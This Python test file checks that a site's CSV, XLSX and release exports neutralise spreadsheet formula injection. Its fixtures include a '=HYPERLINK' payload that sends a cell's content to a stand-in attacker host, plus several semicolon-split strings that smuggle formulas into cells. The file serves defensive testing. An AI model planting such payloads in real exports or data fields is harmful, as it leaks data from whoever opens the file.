"""No table of the public site, in whichever format and about whatever, holds a cell that a spreadsheet computes."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from openpyxl import load_workbook

from ctitf_site.api import VIEWSETS
from ctitf_site.register.models import Entry
from ctitf_site.register.public import record_models
from ctitf_site.register.releases import latest
from ctitf_site.register.revisions import write_first_revisions, write_revision
from ctitf_site.web.renderers import FORMULA
from tests import factories as f
from tests.api import ROOT
from tests.desk.sheets import compare, counts, csv_file, downloaded
from tests.site.world import published_world

pytestmark = [pytest.mark.django_db, pytest.mark.thorough]
TITLE = '=HYPERLINK("https://evil.example/?"&A1;"Report")'
LISTS = [f"{ROOT}{viewset.noun()}s/" for viewset in VIEWSETS]
LISTS += [f"{ROOT}{name}" for name in ("changes/", "search/?q=hyperlink", "disagreements/", "releases/")]
LISTS += [
    f"{ROOT}matrix/?of=meeting&rows=state&columns=pillar",
    "/en/contributions/matrix/",
    "/en/meetings/participation/",
]
LISTS += ["/en/contributions/matrix/?by=state&measures=true", "/en/contributions/gaps/"]


@pytest.fixture
def world(shelf):
    """One record of each kind, and all of them are called so that a spreadsheet would compute their names."""
    world = published_world()
    for model in record_models():
        model.objects.update(title_en=TITLE, title_ru=TITLE)
    Entry.objects.update(title_en=TITLE, title_ru=TITLE)
    for model in record_models():
        for record in model.objects.all():
            write_revision(record, action="changed")
    return world


def answer(client, address, ending):
    response = client.get(f"{address}{'&' if '?' in address else '?'}format={ending}")
    return response.status_code, b"".join(response) if response.streaming else response.content


def risky(content):
    """Cells of CSV that a spreadsheet would compute; numbers below nothing are none."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell[:1] in FORMULA and not cell[1:].replace(".", "").isdecimal()]


def test_no_cell_of_csv_is_computed(client, world):
    named = 0
    for address in LISTS:
        status, content = answer(client, address, "csv")
        assert status in (200, 400) and risky(content if status == 200 else b"") == [], address
        named += status == 200 and b"HYPERLINK" in content
    assert named > 12


def test_no_cell_of_a_workbook_is_computed(client, world):
    named = 0
    for address in LISTS:
        status, content = answer(client, address, "xlsx")
        if status != 200:
            continue
        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
        assert "f" not in {cell.data_type for cell in cells}, address
        named += any("HYPERLINK" in str(cell.value) for cell in cells)
    assert named > 12


def test_no_cell_of_a_release_is_computed(world):
    call_command("build_release", verbosity=0)
    tables = list((latest().path / "csv").glob("*.csv"))
    assert len(tables) > 10
    assert {table.name: found for table in tables if (found := risky(table.read_bytes()))} == {}
    assert any(b"HYPERLINK" in table.read_bytes() for table in tables)


# A semicolon inside a text ---------------------------------------------------------------------------------------
# Where semicolons separate, the second part of each is a cell of its own. No mark can keep that from being computed
# without changing the text for programs, so CSV has the text as it is, and docs/data.md says to take XLSX.
DIVIDED = ("Report;=1+1", 'Report;"=1+1"', "Report;\t=1+1", "Report; -2+3", "'Report;'=1+1", "a;'';@SUM(1)")


@pytest.fixture
def divided(db):
    made = [f.make_organization(ref=f"O-9{n:03}", title_en=text) for n, text in enumerate(DIVIDED)]
    write_first_revisions(made, action="loaded")
    return sorted(DIVIDED)


def test_csv_tells_programs_such_a_text_as_it_is(client, divided):
    _status, content = answer(client, f"{ROOT}organizations/", "csv")
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert sorted(row["title_en"] for row in rows) == divided


def test_a_workbook_has_such_a_text_in_one_cell_that_is_none_to_compute(client, divided):
    _status, content = answer(client, f"{ROOT}organizations/", "xlsx")
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    assert sorted(cell.value for cell in cells if cell.value in DIVIDED) == divided
    assert {cell.data_type for cell in cells if cell.value in DIVIDED} == {"s"}


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_table_with_such_texts_goes_out_and_comes_back_unchanged(staff, divided, ending):
    rows = downloaded(staff, f"/admin/organizations/organization/download.{ending}")
    assert counts(compare(staff, "organizations", csv_file(*rows))) == {"same": len(DIVIDED)}


def test_who_opens_tables_is_told_to_take_a_workbook(client):
    said = (Path(settings.BASE_DIR) / "docs" / "data.md").read_text()
    assert re.search(r"^## In a spreadsheet\n\nTake XLSX", said, re.M)
    assert "as in Russia, take XLSX" in client.get("/en/data/api/").content.decode()
